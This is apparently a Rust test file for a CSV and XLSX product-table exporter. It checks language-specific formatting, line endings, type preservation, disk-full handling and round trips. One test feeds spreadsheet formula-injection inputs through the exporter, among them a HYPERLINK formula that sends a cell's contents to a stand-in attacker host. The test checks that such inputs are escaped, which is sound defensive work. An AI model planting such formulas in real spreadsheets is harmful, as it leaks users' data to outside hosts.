//! Tables as independent programs read them back.

use std::io::{self, Cursor, Write};

use calamine::{Data, Reader, Xlsx};
use proptest::prelude::{Strategy, any, prop_assert_eq, prop_oneof, proptest};
use rust_decimal::Decimal;

use super::{Heading, Shape, Sheet, Table, TableError};
use crate::domain::etim::NoValueReason;
use crate::domain::language::Language;
use crate::domain::moment::Moment;
use crate::domain::product::Cell;

fn sheet(language: Language, columns: usize, rows: usize) -> Sheet {
    let heading = |number| Heading { title: format!("TT{number:03} =Nimi; \"{number}\""), shape: Shape::Words };
    Sheet {
        language,
        name: "Products: [1/2]".to_owned(),
        headings: (0..columns).map(heading).collect(),
        rows: u32::try_from(rows).expect("few"),
        about: ("About".to_owned(), vec![("Filter".to_owned(), "=1+1".to_owned())]),
        made: Moment::from_millis(1_773_317_109_000),
    }
}

fn csv(language: Language, rows: &[Vec<Cell<'_>>]) -> Vec<u8> {
    let mut table = Table::csv(Vec::new(), &sheet(language, rows[0].len(), rows.len())).expect("begun");
    rows.iter().for_each(|row| table.row(row).expect("written"));
    table.finish().expect("finished")
}

fn xlsx(language: Language, rows: &[Vec<Cell<'_>>]) -> Vec<u8> {
    let folder = tempfile::tempdir().expect("a folder");
    let mut table = Table::xlsx(Vec::new(), &sheet(language, rows[0].len(), rows.len()), folder.path()).expect("begun");
    rows.iter().for_each(|row| table.row(row).expect("written"));
    let bytes = table.finish().expect("finished");
    assert_eq!(std::fs::read_dir(folder.path()).expect("readable").count(), 0, "nothing is left behind");
    bytes
}

fn read_csv(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a byte-order mark");
    let mut reader = ::csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text);
    let rows = reader.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect());
    rows.collect()
}

fn open(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes)).expect("a workbook")
}

fn read_xlsx(bytes: Vec<u8>) -> Vec<Vec<Data>> {
    let range = open(bytes).worksheet_range_at(0).expect("a sheet").expect("readable");
    range.rows().map(<[Data]>::to_vec).collect()
}

fn number(text: &str) -> Cell<'static> {
    Cell::Number(text.parse().expect("a number"))
}

fn row() -> Vec<Cell<'static>> {
    vec![
        Cell::Code("0101202".into()),
        Cell::Text("Putki; \"DN 20\"\nkaksi riviä".into()),
        number("-1234.5"),
        Cell::Date(jiff::civil::date(2026, 3, 9)),
        Cell::YesNo(true),
        Cell::Empty,
        Cell::Range(Decimal::new(-5, 0), Decimal::new(105, 1)),
        Cell::Archived(true),
        Cell::Missing(NoValueReason::Unknown),
    ]
}

#[test]
fn csv_has_the_decimal_mark_and_the_words_of_its_language() {
    let read = |language, delimiter| read_csv(&csv(language, &[row()]), delimiter).remove(1);
    let lines = "Putki; \"DN 20\"\nkaksi riviä";
    let finnish = ["0101202", lines, "-1234,5", "2026-03-09", "Kyllä", "", "'-5–10,5", "Arkistoitu", "Ei tiedossa"];
    assert_eq!(read(Language::Fi, b';'), finnish);
    let swedish = ["0101202", lines, "-1234,5", "2026-03-09", "Ja", "", "'-5–10,5", "Arkiverad", "Okänt"];
    assert_eq!(read(Language::Sv, b';'), swedish);
    let english = ["0101202", lines, "-1234.5", "2026-03-09", "Yes", "", "'-5–10.5", "Archived", "Not known"];
    assert_eq!(read(Language::En, b','), english);
}

#[test]
fn csv_ends_its_lines_as_the_standard_says() {
    let bytes = csv(Language::En, &[vec![Cell::Text("a".into()), Cell::Text("b".into())]]);
    let text = String::from_utf8(bytes).expect("UTF-8");
    assert_eq!(text, "\u{feff}\"TT000 =Nimi; \"\"0\"\"\",\"TT001 =Nimi; \"\"1\"\"\"\r\na,b\r\n");
}

#[test]
fn xlsx_keeps_types_and_leading_zeros() {
    for language in Language::ALL {
        let rows = read_xlsx(xlsx(language, &[row()]));
        assert_eq!(rows[0][1], Data::String("TT001 =Nimi; \"1\"".to_owned()));
        let row = &rows[1];
        assert_eq!(row[0], Data::String("0101202".to_owned()));
        assert_eq!(row[1], Data::String("Putki; \"DN 20\"\nkaksi riviä".to_owned()));
        assert_eq!(row[2], Data::Float(-1234.5));
        let Data::DateTime(day) = row[3] else { panic!("{:?} is no day", row[3]) };
        assert_eq!(day.to_ymd_hms_milli(), (2026, 3, 9, 0, 0, 0, 0));
        assert_eq!(row[4], Data::Bool(true));
        assert_eq!(row[5], Data::Empty);
    }
}

#[test]
fn the_second_sheet_says_what_the_first_is() {
    let mut book = open(xlsx(Language::En, &[row()]));
    assert_eq!(book.sheet_names(), ["Products 12", "About"]);
    let range = book.worksheet_range("About").expect("a sheet");
    assert_eq!(range.get_value((0, 1)), Some(&Data::String("=1+1".to_owned())));
}

#[test]
fn a_formula_in_a_name_stays_a_name() {
    for text in ["=HYPERLINK(\"https://evil.example?\"&A1)", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
        let rows = [vec![Cell::Text(text.into()), Cell::Code(text.into()), number("-1")]];
        let read = read_csv(&csv(Language::En, &rows), b',').remove(1);
        assert_eq!(read, [format!("'{text}"), format!("'{text}"), "-1".to_owned()]);
        let bytes = xlsx(Language::En, &rows);
        let formulas = open(bytes.clone()).worksheet_formula("Products 12").expect("readable");
        assert!(formulas.rows().flatten().all(String::is_empty), "{text} became a formula");
        assert_eq!(read_xlsx(bytes)[1][0], Data::String(text.to_owned()));
    }
}

#[test]
fn digits_that_a_spreadsheet_would_lose_are_written_as_text() {
    let rows = [vec![number("999999999999.999"), number("999999999999.9999")]];
    let row = &read_xlsx(xlsx(Language::Fi, &rows))[1];
    assert_eq!(row[0], Data::Float(999_999_999_999.999));
    assert_eq!(row[1], Data::String("999999999999.9999".to_owned()));
}

/// Takes so many bytes and no more, as a disk does that is full.
struct Full(usize);

impl Write for Full {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        if bytes.len() > self.0 {
            return Err(io::Error::from(io::ErrorKind::StorageFull));
        }
        self.0 -= bytes.len();
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn fill(table: Result<Table<Full>, TableError>) -> Result<Full, TableError> {
    let mut table = table?;
    // Words that do not compress to nothing.
    for line in 0_u64..4_000 {
        let words = (0..20).map(|place| format!("{:x}", line.wrapping_mul(0x9e37_79b9_7f4a_7c15).rotate_left(place)));
        table.row(&[Cell::Text(words.collect::<String>().into())])?;
    }
    table.finish()
}

#[test]
fn a_full_disk_is_told_as_one() {
    let folder = tempfile::tempdir().expect("a folder");
    let sheet = sheet(Language::Fi, 1, 4_000);
    for room in [0, 2, 100_000] {
        let csv = fill(Table::csv(Full(room), &sheet)).err().expect("there is no room");
        let xlsx = fill(Table::xlsx(Full(room), &sheet, folder.path())).err().expect("there is no room");
        assert!(csv.is_full() && xlsx.is_full(), "{csv:?} {xlsx:?}");
    }
}

#[test]
fn a_folder_that_is_missing_is_an_error() {
    let folder = tempfile::tempdir().expect("a folder");
    let gone = folder.path().join("gone");
    let error = Table::xlsx(Vec::new(), &sheet(Language::Fi, 1, 1), &gone).err().expect("there is no such folder");
    assert!(matches!(error, TableError::Io(_)), "{error:?}");
}

fn cell() -> impl Strategy<Value = Cell<'static>> {
    let text = "[^\u{0}-\u{8}\u{b}\u{c}\u{e}-\u{1f}\u{fffe}\u{ffff}\r]{0,30}";
    prop_oneof![
        text.prop_map(|text| Cell::Text(text.into())),
        (any::<i32>(), 0_u32..6).prop_map(|(digits, scale)| Cell::Number(Decimal::new(digits.into(), scale))),
        any::<bool>().prop_map(Cell::YesNo),
    ]
}

proptest! {
    #[test]
    fn whatever_stands_in_the_cells_the_table_has_their_shape(rows in proptest::collection::vec(proptest::collection::vec(cell(), 3), 1..12)) {
        let read = read_csv(&csv(Language::Fi, &rows), b';');
        prop_assert_eq!(read.len(), rows.len() + 1);
        for (row, read) in rows.iter().zip(&read[1..]) {
            prop_assert_eq!(read.len(), 3);
            for (cell, read) in row.iter().zip(read) {
                if let Cell::Text(text) = cell {
                    prop_assert_eq!(read.strip_prefix('\'').filter(|_| !text.starts_with('\'')).unwrap_or(read), text.as_ref());
                }
            }
        }
    }

    #[test]
    fn workbooks_hold_every_text(rows in proptest::collection::vec(proptest::collection::vec(cell(), 3), 1..6)) {
        let read = read_xlsx(xlsx(Language::Sv, &rows));
        for (row, read) in rows.iter().zip(&read[1..]) {
            for (cell, read) in row.iter().zip(read) {
                match (cell, read) {
                    (Cell::Text(text), Data::String(read)) => prop_assert_eq!(read, text.as_ref()),
                    (Cell::Text(text), Data::Empty) => prop_assert_eq!(text.as_ref(), ""),
                    (Cell::Number(number), Data::Float(read)) => prop_assert_eq!(number.to_string().parse::<f64>(), Ok(*read)),
                    (Cell::YesNo(yes), read) => prop_assert_eq!(read, &Data::Bool(*yes)),
                    (cell, read) => panic!("{cell:?} was read as {read:?}"),
                }
            }
        }
    }
}
